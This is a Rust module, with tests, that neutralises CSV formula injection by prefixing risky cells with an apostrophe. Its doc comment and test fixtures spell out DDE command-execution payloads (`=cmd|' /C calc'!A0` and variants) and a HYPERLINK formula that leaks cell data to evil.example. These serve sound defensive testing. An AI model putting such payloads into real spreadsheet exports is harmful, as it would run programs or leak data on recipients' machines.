//! Cells for a CSV that staff open in a spreadsheet. A cell that begins with
//! `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel and
//! LibreOffice as a formula (`=cmd|' /C calc'!A0` runs a program through
//! DDE; `=HYPERLINK(…)` leaks the sheet), so such a cell gets a leading `'`,
//! as OWASP's "CSV Injection" page recommends; the spreadsheet then shows
//! it as text. Hand-written: it is one rule on the first character, and the
//! `csv` crate (which quotes cells with separators, quotes and line breaks)
//! has no such option.
//!
//! The choice for legitimate values: every cell that holds text someone
//! typed (a first name, a unit's name, a phone number) goes through
//! [`cell`], so `+46 70 123 45 67` is exported as `'+46 70 123 45 67` and
//! stays text rather than becoming the number 46701234567 or a formula.
//! Figures the service computes itself (ids, counts, costs, times) are
//! written as they are and never passed through here: a negative figure
//! stays a number a spreadsheet can sum.

use std::borrow::Cow;

/// The characters that make a spreadsheet cell a formula (OWASP).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `s` as a text cell that no spreadsheet reads as a formula.
pub fn cell(s: &str) -> Cow<'_, str> {
    if s.starts_with(TRIGGERS) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_are_neutralised() {
        for (raw, out) in [
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            ),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("+46 70 123 45 67", "'+46 70 123 45 67"),
            ("-5", "'-5"),
        ] {
            assert_eq!(cell(raw), out, "{raw:?}");
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for s in [
            "Ali",
            "Enhet A",
            "070-123 45 67",
            "",
            "Anna-Lena",
            " =not first",
            "'quoted",
        ] {
            assert!(matches!(cell(s), Cow::Borrowed(_)), "{s:?}");
        }
    }

    proptest! {
        /// No output begins with a formula character, and removing the one
        /// added apostrophe gives back the input.
        #[test]
        fn never_a_formula_and_nothing_lost(s in ".*") {
            let out = cell(&s);
            prop_assert!(!out.starts_with(TRIGGERS));
            let back = if out.len() == s.len() { &*out } else { &out[1..] };
            prop_assert_eq!(back, s.as_str());
        }
    }
}
